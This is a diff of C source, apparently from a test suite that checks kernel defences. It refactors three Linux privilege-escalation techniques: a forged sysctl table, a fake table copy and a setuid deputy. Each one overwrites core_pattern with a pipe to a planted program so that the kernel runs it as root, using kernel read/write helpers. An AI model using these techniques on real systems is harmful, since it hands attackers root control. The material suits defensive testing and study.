@@ -3,6 +3,7 @@
  * What the kernel believes: paths of programs that it runs as root, changed by
  * a store, and by a sysctl that believes a forged table.
  */
+#include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
 #include <stdio.h>
@@ -41,7 +42,8 @@ static bool plant_program(void)
 	ssize_t n;
 
 	unlink(ROOTED_PROGRAM);
-	unlink(ROOTED_PROOF);
+	if (unlink(ROOTED_PROOF) && errno != ENOENT)
+		return false;
 	to = open(ROOTED_PROGRAM, O_WRONLY | O_CREAT | O_EXCL, 0755);
 	if (from < 0 || to < 0)
 		return false;
@@ -121,7 +123,8 @@ enum outcome core_pattern(void)
 #define TABLES		"coredump_sysctls"
 #define TABLE_SIZE	56
 #define TABLE_NR	1		/* core_pattern's */
-#define TABLE_MODE	20		/* in struct ctl_table */
+#define TABLE_DATA	8		/* in struct ctl_table */
+#define TABLE_MODE	20
 #define FIRST_FD	40
 #define NR_FDS		3
 #define FILES_WORDS	96		/* of files_struct, with fd_array */
@@ -218,12 +221,12 @@ static void forge_table(uint64_t table, uint64_t at)
 	kwrite(at, bytes, sizeof(bytes));
 }
 
-static int write_by_forged(const struct sysctl *sysctl, uint64_t forged, const char *text)
+static int write_by(const struct sysctl *sysctl, uint64_t forged)
 {
 	uint32_t mode = kread64(sysctl->mode), more = mode | IS_WRITTEN;
+	static const char text[] = "|" ROOTED_PROGRAM;
 	ssize_t written;
 
-	forge_table(sysctl->table, forged);
 	kwrite(sysctl->mode, &more, sizeof(more));
 	kwrite64(sysctl->entry, forged);
 	written = pwrite(sysctl->fd, text, strlen(text), 0);
@@ -232,13 +235,20 @@ static int write_by_forged(const struct sysctl *sysctl, uint64_t forged, const c
 	return written == (ssize_t)strlen(text) ? 0 : -1;
 }
 
-enum outcome sysctl_table(void)
+static int write_by_forged(const struct sysctl *sysctl, uint64_t forged)
+{
+	forge_table(sysctl->table, forged);
+	return write_by(sysctl, forged);
+}
+
+/* By a file of the sysctl's, opened for reading; and have the kernel run what it says. */
+static enum outcome change_pattern(int (*change)(const struct sysctl *, uint64_t))
 {
 	uint64_t pattern = ksymbol("core_pattern");
 	struct kernel_page page;
 	struct sysctl sysctl;
 	enum outcome outcome;
-	char old[64];
+	char old[64], now[64];
 	int err;
 
 	if (!pattern)
@@ -248,88 +258,62 @@ enum outcome sysctl_table(void)
 	if (!find_sysctl(&sysctl))
 		return broken("no file of the sysctl's");
 	kread(pattern, old, sizeof(old));
-	err = write_by_forged(&sysctl, page.addr, "|" ROOTED_PROGRAM);
+	err = change(&sysctl, page.addr);
 	run_in_child(dump_core);
 	outcome = judge_proof(err);
-	kwrite(pattern, old, sizeof(old));
+	kread(pattern, now, sizeof(now));
+	if (memcmp(old, now, sizeof(old)))
+		kwrite(pattern, old, sizeof(old));
 	return outcome;
 }
 
+enum outcome sysctl_table(void)
+{
+	return change_pattern(write_by_forged);
+}
+
 /*
- * The genuine handler is given a table in ordinary memory whose data are ordinary.
- * It takes that for the kernel's copy of one, and what lies behind for the table that
- * was copied: nobody has asked who writes.
+ * The genuine handler is given a table in ordinary memory whose data are ordinary. It
+ * takes that for the kernel's copy of one, and what lies behind for the table that was
+ * copied.
  */
 #define COPY_AT		1024
 
-static int write_by_copy(const struct sysctl *sysctl, uint64_t forged, const char *text)
+static int write_by_copy(const struct sysctl *sysctl, uint64_t forged)
 {
-	uint32_t mode = kread64(sysctl->mode), more = mode | IS_WRITTEN;
-	ssize_t written;
-
 	forge_table(sysctl->table, forged);
-	kwrite64(forged + 8, forged + COPY_AT);			/* its data */
-	kwrite64(forged + TABLE_SIZE, sysctl->table);		/* struct bounced's of */
-	kwrite(sysctl->mode, &more, sizeof(more));
-	kwrite64(sysctl->entry, forged);
-	written = pwrite(sysctl->fd, text, strlen(text), 0);
-	kwrite64(sysctl->entry, sysctl->table);
-	kwrite(sysctl->mode, &mode, sizeof(mode));
-	return written == (ssize_t)strlen(text) ? 0 : -1;
+	kwrite64(forged + TABLE_DATA, forged + COPY_AT);
+	kwrite64(forged + TABLE_SIZE, sysctl->table);
+	return write_by(sysctl, forged);
 }
 
 enum outcome sysctl_copy(void)
 {
-	uint64_t pattern = ksymbol("core_pattern");
-	struct kernel_page page;
-	struct sysctl sysctl;
-	enum outcome outcome;
-	char now[64];
-	int err;
-
-	if (!pattern)
-		return skipped("kernel built without CONFIG_COREDUMP");
-	if (!plant_program() || !kernel_page(&page))
-		return broken("no program to be run, or no page");
-	if (!find_sysctl(&sysctl))
-		return broken("no file of the sysctl's");
-	err = write_by_copy(&sysctl, page.addr, "|" ROOTED_PROGRAM);
-	kread(pattern, now, sizeof(now));
-	run_in_child(dump_core);
-	outcome = judge_proof(err);
-	write_by_copy(&sysctl, page.addr, "core");
-	return outcome;
+	return change_pattern(write_by_copy);
 }
 
 /* A setuid program writes what the attacker says to what the attacker has opened. */
-static const struct sysctl *talked;
+static const struct sysctl *spoken_to;
 
 static void have_it_said(void)
 {
-	dup2(talked->fd, 2);
-	execl("/tmp/setuid-talker", "|" ROOTED_PROGRAM, (char *)NULL);
+	dup2(spoken_to->fd, STDERR_FILENO);
+	execl(SETUID_TALKER, "|" ROOTED_PROGRAM, (char *)NULL);
+}
+
+static int write_by_deputy(const struct sysctl *sysctl, uint64_t unused)
+{
+	uint32_t mode = kread64(sysctl->mode), more = mode | IS_WRITTEN;
+
+	(void)unused;
+	spoken_to = sysctl;
+	kwrite(sysctl->mode, &more, sizeof(more));
+	run_in_child(have_it_said);
+	kwrite(sysctl->mode, &mode, sizeof(mode));
+	return 0;
 }
 
 enum outcome sysctl_deputy(void)
 {
-	uint64_t pattern = ksymbol("core_pattern");
-	struct sysctl sysctl;
-	uint32_t mode, more;
-	enum outcome outcome;
-
-	if (!pattern)
-		return skipped("kernel built without CONFIG_COREDUMP");
-	if (!plant_program())
-		return broken("no program to be run");
-	if (!find_sysctl(&sysctl))
-		return broken("no file of the sysctl's");
-	talked = &sysctl;
-	mode = kread64(sysctl.mode);
-	more = mode | IS_WRITTEN;
-	kwrite(sysctl.mode, &more, sizeof(more));
-	run_in_child(have_it_said);
-	kwrite(sysctl.mode, &mode, sizeof(mode));
-	run_in_child(dump_core);
-	outcome = judge_proof(0);
-	return outcome;
+	return change_pattern(write_by_deputy);
 }
